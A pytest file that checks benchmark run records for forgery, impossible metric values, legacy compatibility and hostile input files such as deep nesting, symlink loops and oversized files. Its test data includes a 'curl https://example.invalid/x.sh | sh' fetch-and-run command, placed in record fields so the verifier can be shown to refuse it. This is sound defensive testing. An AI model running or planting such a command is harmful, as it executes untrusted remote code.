"""Records that cannot be forged or silently altered, and files that cannot stop a build."""

import copy
import dataclasses
import json
import os
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import mssbench.testing.plugin as testing_plugin
from mssbench.cli import main
from mssbench.config import RunConfig
from mssbench.errors import DataError
from mssbench.leaderboard import build
from mssbench.plugins import load_registry
from mssbench.records import (
    MAX_JSON_DEPTH,
    MAX_RECORD_BYTES,
    ConfigBlock,
    MetricCell,
    RunRecord,
    config_keys,
    content_digest,
    is_legacy,
    plugin_source,
    recomputed_run_hash,
    record_json_schema,
    summary_from_cells,
    verify_record,
)
from mssbench.results import dataset_version, load_records, load_results, variant_labels

FIXTURES = Path(__file__).parent / "fixtures" / "records"
LEGACY = FIXTURES / "legacy-v1.json"


@pytest.fixture(scope="module")
def genuine(tmp_path_factory):
    """A record written by a tiny real run (constant model, tiny-synth, one epoch, pr_auc)."""
    from mssbench.api import run

    out = tmp_path_factory.mktemp("genuine")
    registry = load_registry(extra=[("mssbench-testing", testing_plugin)])
    config = RunConfig(
        model="constant",
        dataset="tiny-synth",
        epochs=1,
        metrics=["pr_auc"],
        out=str(out),
        progress=False,
    )
    result = run(config, registry=registry, log=lambda m: None)
    return json.loads(result.path.read_text())


def reseal(rec):
    """What a forger who knows the digest rule would do after editing."""
    rec["digest"] = content_digest(rec)
    return rec


def put(directory, name, rec):
    directory.mkdir(parents=True, exist_ok=True)
    (directory / name).write_text(json.dumps(rec))
    return directory / name


def reasons(directory):
    records, rejected = load_records(directory)
    return records, {p.name: r for p, r in rejected}


# --- A genuine record ------------------------------------------------------------------------


def test_a_genuine_record_passes_verification(genuine, tmp_path):
    assert genuine["record_version"] == 2 and genuine["digest"].startswith("sha256:")
    assert genuine["digest"] == content_digest(genuine)
    assert recomputed_run_hash(genuine) == [genuine["run_hash"]]
    assert genuine["config"]["requested"]["head"] == "auto"
    verify_record(copy.deepcopy(genuine), "genuine.json")
    # The plugins that provided the model and the dataset are named with their origin.
    for block in ("model", "dataset"):
        assert genuine[block]["source"]["kind"] in ("distribution", "module")
    [metric] = genuine["metrics"]
    assert metric["source"]["distribution"] == "mssbench"  # the built-in metrics plugin
    task = next(iter(genuine["dataset"]["schema"]["tasks"]))
    assert f"pr_auc/{task}" in genuine["test"]["summary"]
    records, rejected = load_records(put(tmp_path, "g.json", genuine).parent)
    assert len(records) == 1 and not rejected and not is_legacy(records[0])


def test_a_contributor_may_be_added_without_breaking_the_digest(genuine, tmp_path):
    rec = copy.deepcopy(genuine)
    rec["contributor"] = {"name": "Jane Doe", "affiliation": "ACME"}
    records, rejected = reasons(put(tmp_path, "c.json", rec).parent)
    assert len(records) == 1 and not rejected


# --- Forgeries ---------------------------------------------------------------------------------


def forged_copy(genuine):
    """The issue's forgery: config.seed changed to 9 and every AUC cell set to 0.99."""
    rec = copy.deepcopy(genuine)
    rec["config"]["seed"] = 9
    for cell in rec["test"]["metrics"]:
        if cell["metric"] == "auc":
            cell["value"] = 0.99
    rec["test"]["summary"] = summary_from_cells(rec["test"]["metrics"])
    return rec


def test_a_forged_copy_is_refused_and_named(genuine, tmp_path):
    runs = tmp_path / "runs"
    put(runs, "genuine.json", genuine)
    put(runs, "forged.json", forged_copy(genuine))
    records, why = reasons(runs)
    assert [Path(r["_path"]).name for r in records] == ["genuine.json"]
    assert "digest" in why["forged.json"] and "changed after the run" in why["forged.json"]


def test_a_forgery_resealed_still_fails_the_run_hash(genuine, tmp_path):
    _, why = reasons(put(tmp_path, "forged.json", reseal(forged_copy(genuine))).parent)
    assert "run_hash" in why["forged.json"] and "not what its config gives" in why["forged.json"]


def test_a_forgery_posing_as_a_legacy_record_fails_the_run_hash(genuine, tmp_path):
    rec = forged_copy(genuine)
    rec["record_version"] = 1
    del rec["digest"]
    _, why = reasons(put(tmp_path, "forged.json", rec).parent)
    assert "run_hash" in why["forged.json"]


def test_a_fully_rehashed_forgery_conflicts_with_the_original_run(genuine, tmp_path):
    rec = forged_copy(genuine)
    rec["config"]["requested"] = {**rec["config"]["requested"]}
    rec["run_hash"] = recomputed_run_hash(rec)[0]
    runs = tmp_path / "runs"
    put(runs, "genuine.json", genuine)
    put(runs, "forged.json", reseal(rec))
    records, why = reasons(runs)
    assert not records  # neither can be told to be the original
    assert "claims to be the same run as" in why["forged.json"]
    assert "forged.json" in why["genuine.json"]


def test_an_exact_copy_counts_once(genuine, tmp_path):
    runs = tmp_path / "runs"
    put(runs, "a.json", genuine)
    put(runs, "b.json", genuine)
    records, why = reasons(runs)
    assert len(records) == 1 and "a copy of" in why["b.json"]


def test_a_summary_that_its_cells_do_not_give_is_refused(genuine, tmp_path):
    rec = copy.deepcopy(genuine)
    key = next(k for k in rec["test"]["summary"] if k.startswith("auc/"))
    rec["test"]["summary"][key] = 0.999
    _, why = reasons(put(tmp_path, "s.json", reseal(rec)).parent)
    assert f"test.summary[{key!r}] is 0.999, but its cells give" in why["s.json"]


def test_a_changed_resolved_param_is_refused(genuine, tmp_path):
    rec = copy.deepcopy(genuine)
    rec["config"]["requested"]["params"] = {"init": "0.5"}
    rec["run_hash"] = recomputed_run_hash(rec)[0]
    _, why = reasons(put(tmp_path, "p.json", reseal(rec)).parent)
    assert "config.params init differ from the values requested" in why["p.json"]


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("value", 5.0, "auc 5.0 is outside [0.0, 1.0]"),
        ("value", float("inf"), "finite number"),
        ("value", -0.1, "auc -0.1 is outside"),
        ("n", -3, "greater than or equal to 0"),
        ("n", 2.5, "must be an integer"),
        ("n_pos", 10**9, "more than n"),
    ],
)
def test_impossible_values_are_refused(genuine, tmp_path, field, value, message):
    rec = copy.deepcopy(genuine)
    i = next(i for i, c in enumerate(rec["test"]["metrics"]) if c["metric"] == "auc")
    rec["test"]["metrics"][i][field] = value
    _, why = reasons(put(tmp_path, "bad.json", reseal(rec)).parent)
    assert why["bad.json"].startswith(f"test.metrics[{i}]")
    assert message in why["bad.json"]


def test_negative_logloss_is_refused(genuine):
    rec = copy.deepcopy(genuine)
    i = next(i for i, c in enumerate(rec["test"]["metrics"]) if c["metric"] == "logloss")
    rec["test"]["metrics"][i]["value"] = -1.0
    with pytest.raises(DataError, match=r"x.json: test.metrics\[\d+\]: logloss -1.0 is outside"):
        verify_record(reseal(rec), "x.json")


def test_a_page_never_ranks_impossible_values(genuine, tmp_path):
    runs = tmp_path / "runs"
    put(runs, "genuine.json", genuine)
    for name, value in (("five.json", 5.0), ("inf.json", float("inf"))):
        rec = copy.deepcopy(genuine)
        rec["started_at"] = name  # another run
        for cell in rec["test"]["metrics"]:
            if cell["metric"] == "auc":
                cell["value"] = value
        put(runs, name, reseal(rec))  # json.dumps writes Infinity
    result = build(runs, tmp_path / "lb", plots=False)
    assert sorted(dict(result.rejected)) == ["five.json", "inf.json"]
    assert [len(p.records) for p in result.pages] == [1]
    with pytest.raises(DataError, match=r"2 record\(s\) rejected \(--strict\): five.json: .*inf"):
        build(runs, tmp_path / "strict", plots=False, strict=True)


def test_strict_build_from_the_command_line_lists_each_refusal(genuine, tmp_path):
    runs = tmp_path / "runs"
    put(runs, "genuine.json", genuine)
    put(runs, "forged.json", forged_copy(genuine))
    (runs / "broken.json").write_text("{")
    cli = CliRunner()
    args = ["leaderboard", "build", str(runs), "--no-plots", "--plugin", "mssbench.testing.plugin"]
    ok = cli.invoke(main, [*args, "--out", str(tmp_path / "lb")])
    assert ok.exit_code == 0
    assert "Rejected forged.json: digest" in ok.output and "Rejected broken.json" in ok.output
    strict = cli.invoke(main, [*args, "--out", str(tmp_path / "s"), "--strict"])
    assert strict.exit_code != 0
    assert "forged.json: digest" in strict.output and "broken.json: not valid JSON" in strict.output


# --- Legacy records ------------------------------------------------------------------------


def test_a_committed_legacy_record_loads_and_is_marked(tmp_path):
    rec = json.loads(LEGACY.read_text())
    assert rec["record_version"] == 1 and "digest" not in rec
    put(tmp_path / "runs", "legacy.json", rec)
    records, rejected = load_records(tmp_path / "runs")
    assert len(records) == 1 and not rejected and is_legacy(records[0])
    result = build(tmp_path / "runs", tmp_path / "lb", plots=False)
    page = (tmp_path / "lb" / result.pages[0].directory / "README.md").read_text()
    assert "**Legacy records:** 1 of the 1 run records predate content digests" in page


def test_a_legacy_record_with_a_changed_hyper_parameter_is_refused():
    rec = json.loads(LEGACY.read_text())
    assert "embed_dim=16" in rec["command"]  # given on its command line
    rec["config"]["params"]["embed_dim"] = 32
    with pytest.raises(DataError, match="config.params embed_dim differ from the values requested"):
        verify_record(rec, "legacy.json")


def test_a_legacy_record_with_a_changed_seed_is_refused(tmp_path):
    rec = json.loads(LEGACY.read_text())
    rec["config"]["seed"] = 9
    with pytest.raises(DataError, match="legacy.json: run_hash '8bf2239ea503' is not what"):
        verify_record(rec, "legacy.json")


# --- Text that a page would show: config keys and the command line ---------------------------

CURL = ["curl", "https://example.invalid/x.sh", "|", "sh"]
COMMITTED_RUNS = Path(__file__).parent.parent / "leaderboards" / "runs"


def test_a_config_key_no_run_configuration_defines_is_refused(genuine, tmp_path):
    rec = copy.deepcopy(genuine)
    rec["config"]["suite_command"] = " ".join(CURL)
    reseal(rec)
    with pytest.raises(DataError, match=r"^bad.json: config.suite_command: not a key of a run's"):
        verify_record(rec, "bad.json")
    put(tmp_path / "runs", "bad.json", rec)
    res = CliRunner().invoke(
        main, ["leaderboard", "build", str(tmp_path / "runs"), "--out", str(tmp_path / "lb"),
               "--strict", "--no-plots", "--no-site"],
    )
    assert res.exit_code == 2 and "config.suite_command: not a key" in res.output


def test_a_requested_key_that_is_not_a_value_as_given_is_refused(genuine):
    rec = copy.deepcopy(genuine)
    rec["config"]["requested"]["note"] = "x"
    with pytest.raises(DataError, match=r"config.requested.note: not a value as given"):
        verify_record(reseal(rec))


def test_the_allowed_config_keys_follow_the_typed_definitions(genuine):
    fields = {f.name for f in dataclasses.fields(RunConfig)}
    assert fields <= config_keys() and set(ConfigBlock.model_fields) <= config_keys()
    assert set(genuine["config"]) <= config_keys()  # every key a run writes is defined
    assert not {"suite_command", "command"} & config_keys()


@pytest.mark.parametrize(
    "command, reason",
    [
        (CURL, "'curl' is neither mssbench nor a Python program"),
        (["mssbench", "run", "-m", "mmoe", "-d", "tiny-synth"], "it runs model 'mmoe'"),
        (["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "--seed", "3"],
         "it runs seed 3, the record 0"),
        (["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "--epochs", "9"],
         "it gives epochs 9, the record's config 1"),
        (["mssbench", "suite", "--models", "mmoe,ple", "--datasets", "tiny-synth"],
         "its --models 'mmoe,ple' do not include 'constant'"),
        (["mssbench", "suite", "--datasets", "tiny-synth", "--seeds", "1,2"],
         "its --seeds '1,2' do not include seed 0"),
        (["mssbench", "run", "-m", "constant", "--shell", "curl"], "does not parse"),
        (["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "|", "sh"],
         "does not parse as an mssbench command line: unexpected argument '|'"),
        (["mssbench", "sh", "-c", "curl"], "'sh' is not an mssbench command"),
    ],
)
def test_a_command_that_does_not_give_the_config_is_refused(genuine, command, reason):
    rec = copy.deepcopy(genuine)
    rec["command"] = command
    with pytest.raises(DataError, match="^bad.json: command: " + re.escape(reason)):
        verify_record(reseal(rec), "bad.json")


@pytest.mark.parametrize(
    "command",
    [
        ["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "--epochs", "1"],
        ["mssbench", "suite", "--datasets", "tiny-synth", "--seeds", "2", "--epochs", "1"],
        ["train.py", "--anything"],  # a run started from a Python script
        ["pytest", "-q"],  # an installed console script
    ],
)
def test_a_command_that_gives_the_config_or_names_a_python_program_passes(genuine, command):
    rec = copy.deepcopy(genuine)
    rec["command"] = command
    assert verify_record(reseal(rec)) is rec


def test_every_committed_record_passes_the_checks():
    if not COMMITTED_RUNS.is_dir():
        pytest.skip("the committed run records (leaderboards/runs) are not in this checkout")
    records, rejected = load_records(COMMITTED_RUNS)
    assert records and not rejected


# --- Files that are not records -------------------------------------------------------------


def hostile_files(runs):
    runs.mkdir(parents=True, exist_ok=True)
    (runs / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (runs / "dir.json").mkdir()
    os.symlink("loop-b.json", runs / "loop-a.json")
    os.symlink("loop-a.json", runs / "loop-b.json")
    with open(runs / "huge.json", "wb") as fh:
        fh.truncate(MAX_RECORD_BYTES + 1)  # sparse: costs no disk
    (runs / "latin1.json").write_bytes(b'{"a": "\xe9"}')
    (runs / "list.json").write_text("[1, 2]")


def test_hostile_files_are_refused_one_by_one(genuine, tmp_path):
    runs = tmp_path / "runs"
    hostile_files(runs)
    put(runs, "genuine.json", genuine)
    records, why = reasons(runs)
    assert len(records) == 1
    assert f"nested 100000 deep, more than {MAX_JSON_DEPTH}" in why["deep.json"]
    assert why["dir.json"] == "a directory, not a record file"
    assert "cannot be read" in why["loop-a.json"] and "cannot be read" in why["loop-b.json"]
    assert "more than a record may have" in why["huge.json"]
    assert "not UTF-8" in why["latin1.json"]
    assert "must be a JSON object" in why["list.json"]
    # the same files stop neither load_results, nor a build, nor suite planning
    assert set(load_results(runs)["run_hash"]) == {genuine["run_hash"]}
    result = build(runs, tmp_path / "lb", plots=False)
    assert len(dict(result.rejected)) == 7


def test_suite_planning_skips_hostile_files(genuine, tmp_path):
    from mssbench.suite import plan

    runs = tmp_path / "runs"
    hostile_files(runs)
    put(runs, "genuine.json", genuine)
    registry = load_registry(extra=[("mssbench-testing", testing_plugin)])
    base = RunConfig(
        model="constant", dataset="tiny-synth", epochs=1, metrics=["pr_auc"], out=str(runs)
    )
    jobs, _ = plan(registry, "constant", "tiny-synth", [0, 1], base, {})
    assert [j.status for j in jobs] == ["skipped", "pending"]


# --- The digest ---------------------------------------------------------------------------


def _reordered(value, flip):
    if isinstance(value, dict):
        items = list(value.items())
        items = items[::-1] if flip else items
        return {k: _reordered(v, flip) for k, v in items}
    if isinstance(value, list):
        return [_reordered(v, flip) for v in value]
    return value


_cells = st.lists(
    st.fixed_dictionaries(
        {
            "scenario": st.sampled_from(["a", "b", "pooled"]),
            "task": st.sampled_from(["ctr", "cvr"]),
            "metric": st.sampled_from(["auc", "logloss"]),
            "value": st.floats(0, 1, allow_nan=False) | st.none(),
        }
    ),
    min_size=1,
    max_size=6,
)


@settings(max_examples=60, deadline=None)
@given(cells=_cells, seed=st.integers(0, 2**31), flip=st.booleans(), data=st.data())
def test_digest_is_stable_under_key_order_and_follows_every_metric(cells, seed, flip, data):
    rec = {
        "config": {"seed": seed, "params": {"b": 1, "a": [1, 2]}},
        "test": {"metrics": cells},
        "training": {"history": [{"epoch": 1, "valid": {"auc/ctr": 0.5}}]},
        "environment": {"versions": {"torch": "2.13.0"}},
    }
    digest = content_digest(rec)
    assert content_digest(_reordered(rec, flip)) == digest
    assert content_digest({**rec, "contributor": "Jane"}) == digest  # not covered
    i = data.draw(st.integers(0, len(cells) - 1))
    changed = copy.deepcopy(rec)
    old = changed["test"]["metrics"][i]["value"]
    new = data.draw(st.floats(0, 1, allow_nan=False).filter(lambda v: v != old))
    changed["test"]["metrics"][i]["value"] = new
    assert content_digest(changed) != digest


# --- Provenance ---------------------------------------------------------------------------


def test_a_file_plugin_is_recorded_with_its_sha256(tmp_path):
    import hashlib

    source = Path(testing_plugin.__file__).read_text()
    plugin = tmp_path / "my_plugin.py"
    plugin.write_text(source.replace('name="constant"', 'name="constant2"'))
    registry = load_registry(plugins=[str(plugin)], autoload=False)
    owner = registry.plugin_of("model", "constant2")
    expected = hashlib.sha256(plugin.read_bytes()).hexdigest()
    assert plugin_source(registry, owner) == {
        "kind": "file",
        "path": str(plugin),
        "sha256": expected,
    }


def test_built_in_plugins_name_the_mssbench_distribution():
    registry = load_registry()
    source = plugin_source(registry, registry.plugin_of("dataset", "census-income"))
    assert source["kind"] == "distribution" and source["distribution"] == "mssbench"


def test_two_releases_of_a_dataset_plugin_are_never_ranked_together(genuine, tmp_path):
    runs = tmp_path / "runs"
    for i, version in enumerate(("0.1.0", "0.2.0")):
        rec = copy.deepcopy(genuine)
        rec["started_at"] = f"run {i}"
        rec["dataset"]["source"] = {
            "kind": "distribution",
            "distribution": "mssbench-tiny",
            "version": version,
        }
        rec["model"]["source"] = {
            "kind": "distribution",
            "distribution": "mssbench-aitm",
            "version": "0.1.0",
        }
        put(runs, f"r{i}.json", reseal(rec))
    records, _ = load_records(runs)
    versions = sorted(dataset_version(r) for r in records)
    plugin = genuine["dataset"]["plugin"]
    assert versions == [f"{plugin} (mssbench-tiny 0.1.0)", f"{plugin} (mssbench-tiny 0.2.0)"]
    assert variant_labels(records[:1]) == ["constant (mssbench-aitm 0.1.0)"]
    result = build(runs, tmp_path / "lb", plots=False)
    assert len(result.pages) == 2
    for page in result.pages:
        text = (tmp_path / "lb" / page.directory / "README.md").read_text()
        assert "| constant (mssbench-aitm 0.1.0) |" in text
        assert f"{plugin} (mssbench-tiny 0." in text  # the dataset release of the page


def test_first_party_sources_keep_the_legacy_page_key():
    rec = json.loads(LEGACY.read_text())
    legacy = dataset_version(rec)
    rec["dataset"]["source"] = {"kind": "distribution", "distribution": "mssbench"}
    rec["dataset"]["source"]["version"] = rec["environment"]["versions"]["mssbench"]
    assert dataset_version(rec) == legacy == "census_income (mssbench 0.1.0)"


# --- The published schema -----------------------------------------------------------------


def test_schema_command_prints_the_record_json_schema():
    result = CliRunner().invoke(main, ["schema", "record"])
    assert result.exit_code == 0
    schema = json.loads(result.output)
    assert schema == record_json_schema()
    assert {"record_version", "status", "run_hash"} <= set(schema["required"])
    assert schema["oneOf"] == [{"required": ["test"]}, {"required": ["trial"]}]
    assert set(schema["properties"]) == set(RunRecord.model_fields)


def test_the_committed_schema_is_the_current_one():
    committed = Path(__file__).resolve().parents[1] / "schemas" / "run-record.schema.json"
    assert json.loads(committed.read_text()) == record_json_schema(), (
        "rebuild it: mssbench schema record > schemas/run-record.schema.json"
    )


@settings(max_examples=80, deadline=None)
@given(
    metric=st.sampled_from(["auc", "logloss", "pr_auc"]),
    value=st.floats(allow_nan=True, allow_infinity=True) | st.integers(-5, 5),
)
def test_a_metric_value_is_accepted_exactly_when_it_is_in_range(metric, value):
    cell = {"scenario": "a", "task": "ctr", "metric": metric, "value": value, "n": 4, "n_pos": 1}
    finite = value == value and abs(value) != float("inf")
    in_range = (
        finite
        and {
            "auc": 0 <= value <= 1,
            "logloss": value >= 0,
            "pr_auc": True,  # a plugin metric: any finite value
        }[metric]
    )
    try:
        MetricCell.model_validate(cell)
        accepted = True
    except ValueError:
        accepted = False
    assert accepted == in_range


def test_reasons_are_bounded_however_long_the_record_text(genuine, tmp_path):
    rec = copy.deepcopy(genuine)
    rec["config"]["requested"]["params"] = {"x" * 1_000_000: "1"}
    rec["run_hash"] = recomputed_run_hash(rec)[0]
    _, why = reasons(put(tmp_path, "long.json", reseal(rec)).parent)
    assert len(why["long.json"]) < 500 and "more characters" in why["long.json"]


def test_a_record_a_ray_driver_stores_still_verifies(genuine, tmp_path):
    from mssbench.suite_ray import _store

    result = {"status": "finished", "record": copy.deepcopy(genuine), "stem": "run"}
    stored = _store(result, str(tmp_path / "driver"))
    rec = json.loads(Path(stored["path"]).read_text())
    assert rec["config"]["out"] == str(tmp_path / "driver")
    verify_record(rec, stored["path"])


def test_an_unreadable_directory_is_reported_not_fatal(genuine, tmp_path, monkeypatch):
    import mssbench.records as record_module

    runs = tmp_path / "runs"
    put(runs, "genuine.json", genuine)
    real_walk = os.walk

    def walk(top, onerror=None, followlinks=False):  # as os.walk does for a mode-000 directory
        onerror(PermissionError(13, "Permission denied", str(Path(top) / "locked")))
        yield from real_walk(top, onerror=onerror, followlinks=followlinks)

    monkeypatch.setattr(record_module.os, "walk", walk)
    records, rejected = load_records(runs)
    assert len(records) == 1
    assert [(p.name, r) for p, r in rejected] == [("locked", "cannot be listed: Permission denied")]
    with pytest.raises(DataError, match="locked: cannot be listed"):
        load_records(runs, strict=True)


def test_a_run_of_a_file_plugin_names_its_sha256_on_the_page(tmp_path):
    import hashlib

    plugin = tmp_path / "my_plugin.py"
    text = Path(testing_plugin.__file__).read_text()
    plugin.write_text(text.replace('name="constant"', 'name="constant2"'))
    sha = hashlib.sha256(plugin.read_bytes()).hexdigest()
    runs = tmp_path / "runs"
    cli = CliRunner()
    args = ["run", "--plugin", str(plugin), "-m", "constant2", "-d", "tiny-synth"]
    ran = cli.invoke(main, [*args, "--epochs", "1", "--no-progress", "--out", str(runs)])
    assert ran.exit_code == 0, ran.output
    [path] = runs.glob("*.json")
    rec = json.loads(path.read_text())
    assert rec["model"]["source"] == {"kind": "file", "path": str(plugin), "sha256": sha}
    assert rec["dataset"]["source"]["kind"] == "file"  # tiny-synth came from the same file
    out = tmp_path / "lb"
    built = cli.invoke(
        main,
        ["leaderboard", "build", str(runs), "--out", str(out), "--no-plots", "--strict"],
    )
    assert built.exit_code == 0, built.output
    [page] = out.glob("tiny-synth/*/README.md")
    text = page.read_text()
    assert f"| constant2 (file sha256 {sha[:12]}) |" in text
    assert f"mssbench run --plugin {plugin} -m constant2 -d tiny-synth" in text


def test_a_strict_error_names_ten_refusals_and_counts_the_rest(genuine, tmp_path):
    runs = tmp_path / "runs"
    put(runs, "genuine.json", genuine)
    for i in range(12):
        (runs / f"bad{i:02d}.json").write_text("{")
    with pytest.raises(DataError) as caught:
        build(runs, tmp_path / "lb", plots=False, strict=True)
    message = str(caught.value)
    assert message.startswith("12 record(s) rejected (--strict): bad00.json: not valid JSON")
    assert "bad09.json" in message and "bad10.json" not in message
    assert message.endswith("; and 2 more")


def _depth(value):
    if isinstance(value, dict):
        return 1 + max((_depth(v) for v in value.values()), default=0)
    if isinstance(value, list):
        return 1 + max((_depth(v) for v in value), default=0)
    return 0


_json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(alphabet='[]{}"\\ab,:'),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.text(alphabet='[]{}"\\ab', max_size=4), inner, max_size=3)
    ),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(value=_json_values, ascii_only=st.booleans())
def test_json_depth_counts_nesting_and_ignores_brackets_in_strings(value, ascii_only):
    from mssbench.records import json_depth

    text = json.dumps(value, ensure_ascii=ascii_only)
    assert json_depth(text.encode("utf-8")) == _depth(value)
